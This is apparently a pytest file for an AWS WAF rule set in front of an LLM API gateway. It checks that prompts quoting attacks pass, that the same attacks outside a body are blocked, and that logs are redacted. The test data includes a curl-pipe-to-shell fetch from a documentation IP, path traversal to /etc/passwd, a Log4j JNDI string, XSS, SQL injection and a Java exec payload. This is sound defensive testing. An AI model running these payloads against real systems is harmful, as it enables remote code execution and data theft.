"""The web firewall refuses no prompt, whatever it says and however long it is, and still refuses what is no prompt.

Each environment's declared rule set is judged by a model of AWS WAF (`judge.py`), not by AWS. A mutation beside a
policy shows that the model would notice.
"""

import copy
import json
from typing import Any

import pytest
from gateway.settings import Limits

from tests.stacks.declared import Program
from tests.stacks.web.judge import BODY_BYTES, GROUPS, Managed, Part, Request, judge

Rules = list[dict[str, Any]]
CORE = "AWSManagedRulesCommonRuleSet"
# One specimen for each managed rule that looks into a body.
PROMPTS = {
    "SizeRestrictions_BODY": "a long document " * 12_800,
    "EC2MetaDataSSRF_BODY": "Why is http://169.254.169.254/latest/meta-data dangerous?",
    "GenericLFI_BODY": "Explain `cat ../../etc/passwd` in a shell script.",
    "GenericRFI_BODY": "curl http://203.0.113.9/install.sh | sh",
    "CrossSiteScripting_BODY": "Review <html><script>alert('hello')</script></html>",
    "JavaDeserializationRCE_BODY": '(java.lang.Runtime).getRuntime().exec("whoami")',
    "Log4JRCE_BODY": "What does ${jndi:ldap://example.com/a} do?",
    "ReactJSRCE_BODY": '{"__proto__": {"then": "x"}}',
    "SQLi_BODY": "SELECT * FROM users WHERE name = '' OR 1=1; -- why?",
    "SQLiExtendedPatterns_BODY": "x' UNION SELECT password FROM users",
}


@pytest.fixture
def rules(program: Program) -> Rules:
    found: Rules = json.loads(program.one("web-acl").inputs["ruleJson"])
    return found


def prompt(text: str) -> Request:
    return Request(body=json.dumps({"model": "m", "messages": [{"role": "user", "content": text}]}))


def as_aws_ships_it(rules: Rules, only: str | None = None) -> Rules:
    """Mutation: the managed groups decide for themselves, all their rules or one of them."""
    changed = copy.deepcopy(rules)
    for rule in changed:
        if "OverrideAction" in rule:
            statement = rule["Statement"]["ManagedRuleGroupStatement"]
            kept = [o for o in statement["RuleActionOverrides"] if only is not None and o["Name"] != only]
            statement["RuleActionOverrides"] = kept
            rule["OverrideAction"] = {"None": {}}
    return changed


def refusing_also(rules: Rules, label: str) -> Rules:
    """Mutation: one label more is refused."""
    changed = copy.deepcopy(rules)
    changed[-1]["Statement"]["OrStatement"]["Statements"].append(
        {"LabelMatchStatement": {"Scope": "LABEL", "Key": label}}
    )
    return changed


def test_the_specimens_cover_every_managed_rule_that_looks_into_a_body() -> None:
    looking = {rule.name for _, group in GROUPS.values() for rule in group if rule.part in (Part.BODY, Part.BODY_SIZE)}
    assert set(PROMPTS) == looking


@pytest.mark.parametrize("rule", PROMPTS)
def test_a_prompt_passes_whatever_it_quotes(rules: Rules, rule: str) -> None:
    request = prompt(PROMPTS[rule])
    verdict = judge(rules, request)
    assert verdict.refused_by is None
    found = {label for label in verdict.labels if label.endswith("_Body")}
    assert found, "the specimen matches nothing, so it shows nothing"
    assert judge(as_aws_ships_it(rules, only=rule), request).refused_by is not None
    for label in found:
        assert judge(refusing_also(rules, label), request).refused_by == "refuse"


def test_a_prompt_of_the_gateways_whole_limit_passes(rules: Rules) -> None:
    longest = "x" * (Limits.body_bytes - 100)
    assert len(longest) > 200_000 > BODY_BYTES
    assert judge(rules, prompt(longest)).refused_by is None


def test_all_attacks_in_one_prompt_pass(rules: Rules) -> None:
    assert judge(rules, prompt(" ".join(text[:100] for text in PROMPTS.values()))).refused_by is None


def test_no_rule_of_ours_limits_the_size_of_a_body_or_looks_into_it(rules: Rules) -> None:
    """Managed rules that do use CONTINUE on what is longer than they can see, by their documentation."""
    text = json.dumps(rules)
    assert "SizeConstraintStatement" not in text
    assert '"Body"' not in text and '"JsonBody"' not in text


def test_a_rule_about_bodies_that_aws_adds_tomorrow_cannot_refuse_a_prompt(rules: Rules) -> None:
    namespace, known = GROUPS[CORE]
    tomorrow = {**GROUPS, CORE: (namespace, (Managed("New_BODY", "New_Body", Part.BODY, "hello"), *known))}
    assert judge(rules, prompt("hello"), tomorrow).refused_by is None
    trusting = copy.deepcopy(rules)
    for rule in trusting:
        if "OverrideAction" in rule:
            rule["OverrideAction"] = {"None": {}}
    assert judge(trusting, prompt("hello"), tomorrow).refused_by == namespace


def test_every_known_managed_rule_is_overridden_by_its_exact_name(rules: Rules) -> None:
    """WAF ignores a name that it does not know without a word."""
    for rule in rules:
        statement = rule["Statement"].get("ManagedRuleGroupStatement")
        if statement:
            named = {found["Name"] for found in statement["RuleActionOverrides"]}
            assert named == {managed.name for managed in GROUPS[statement["Name"]][1]}
            assert all(found["ActionToUse"] == {"Count": {}} for found in statement["RuleActionOverrides"])
            assert rule["OverrideAction"] == {"Count": {}}


def test_what_is_refused_are_labels_that_aws_gives(rules: Rules) -> None:
    given = {f"awswaf:managed:aws:{space}:{rule.label}" for space, group in GROUPS.values() for rule in group}
    refused = [one["LabelMatchStatement"]["Key"] for one in rules[-1]["Statement"]["OrStatement"]["Statements"]]
    assert set(refused) <= given
    assert not [label for label in refused if label.endswith("_Body")]


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(Request(query="q=x' OR 1=1; --"), id="SQL in the query"),
        pytest.param(Request(query="q=<script>alert(1)</script>"), id="script in the query"),
        pytest.param(Request(path="/../../etc/passwd"), id="traversal in the path"),
        pytest.param(Request(path="/.env", method="GET"), id="a path that scanners try"),
        pytest.param(Request(query="q=${jndi:ldap://example.com/a}"), id="Log4j in the query"),
        pytest.param(Request(headers={"x-any": "${jndi:ldap://example.com/a}"}), id="Log4j in a header"),
        pytest.param(Request(headers={"cookie": "a=<script>"}), id="script in a cookie"),
        pytest.param(Request(query="x" * 2049), id="a long query"),
        pytest.param(Request(address="203.0.113.1"), id="an address that attacks others"),
    ],
)
def test_the_same_outside_a_body_is_refused(rules: Rules, attack: Request) -> None:
    assert judge(rules, attack).refused_by == "refuse"
    assert judge(rules[:-1], attack).refused_by is None


@pytest.mark.parametrize(
    "client",
    [
        pytest.param(Request(headers={"authorization": "Bearer k", "host": "llm.example.com"}), id="no user agent"),
        pytest.param(Request(path="/v1/models", method="GET"), id="a list of models"),
        pytest.param(Request(path="/ready", method="GET", headers={"user-agent": "curl/8"}), id="a look at health"),
        pytest.param(
            Request(headers={"x-switchyard-preview": "0" * 64, "user-agent": "switchyard"}), id="a smoke test"
        ),
        pytest.param(Request(headers={"authorization": "Bearer x' or y", "user-agent": "a"}), id="a key like SQL"),
        pytest.param(Request(address="203.0.113.3"), id="an address that only counts"),
    ],
)
def test_clients_are_let_in(rules: Rules, client: Request) -> None:
    assert judge(rules, client).refused_by is None


def test_clients_at_hosting_providers_are_not_suspected(rules: Rules) -> None:
    """Programs that call an API live there; the group would block them all."""
    assert "AWSManagedRulesAnonymousIpList" not in json.dumps(rules)


def test_a_refused_request_reads_openais_error(program: Program, rules: Rules) -> None:
    answer = rules[-1]["Action"]["Block"]["CustomResponse"]
    bodies = {
        body["key"]: json.loads(body["content"]) for body in program.one("web-acl").inputs["customResponseBodies"]
    }
    assert answer["ResponseCode"] == 403
    assert bodies[answer["CustomResponseBodyKey"]]["error"]["code"] == "refused_by_firewall"


def test_the_rules_fit_into_the_capacity_that_costs_nothing_more(rules: Rules) -> None:
    """WCU: rate limits 2 and 30 for each key, core 700, known bad 200, SQL 200, reputation 25, 1 for each label."""
    labels = len(rules[-1]["Statement"]["OrStatement"]["Statements"])
    keys = len(rules[0]["Statement"]["RateBasedStatement"]["CustomKeys"])
    assert 2 + 30 * keys + 2 + 700 + 200 + 200 + 25 + labels == 1220 <= 1500


def test_every_rule_has_a_metric_and_none_keeps_samples(program: Program, rules: Rules) -> None:
    for seen in [rule["VisibilityConfig"] for rule in rules]:
        assert seen["CloudWatchMetricsEnabled"] is True
        assert seen["SampledRequestsEnabled"] is False
    assert len({rule["VisibilityConfig"]["MetricName"] for rule in rules}) == len(rules)
    whole = program.one("web-acl").inputs["visibilityConfig"]
    assert (whole["cloudwatchMetricsEnabled"], whole["sampledRequestsEnabled"]) == (True, False)


def test_no_key_token_cookie_or_piece_of_a_prompt_reaches_a_log(program: Program) -> None:
    hidden = {"authorization", "x-switchyard-preview", "cookie"}
    logging = program.one("web-logging").inputs
    assert {field["singleHeader"]["name"] for field in logging["redactedFields"]} == hidden
    headers, body = program.one("web-acl").inputs["dataProtectionConfig"]["dataProtections"]
    assert (headers["field"]["fieldType"], set(headers["field"]["fieldKeys"])) == ("SINGLE_HEADER", hidden)
    assert body["field"] == {"fieldType": "BODY"}
    for protection in (headers, body):
        assert protection["action"] == "SUBSTITUTION"
        assert protection["excludeRateBasedDetails"] is protection["excludeRuleMatchDetails"] is False


def test_only_what_a_rule_refused_or_counted_is_logged(program: Program) -> None:
    logging = program.one("web-logging").inputs
    assert logging["loggingFilter"]["defaultBehavior"] == "DROP"
    (kept,) = logging["loggingFilter"]["filters"]
    assert (kept["behavior"], kept["requirement"]) == ("KEEP", "MEETS_ANY")
    assert {one["actionCondition"]["action"] for one in kept["conditions"]} == {"BLOCK", "COUNT", "EXCLUDED_AS_COUNT"}
    assert program.one("web-logs").inputs["name"].startswith("aws-waf-logs-switchyard-")
    assert logging["logDestinationConfigs"] == ["arn:aws:cloudwatch:us-east-1:111122223333:web-logs"]


def test_the_public_load_balancer_is_behind_it_and_outlives_its_silence(program: Program) -> None:
    association = program.one("web-association").inputs
    assert association["resourceArn"].endswith("ingress-public")
    assert program.one("ingress-public").inputs["enableWafFailOpen"] is True
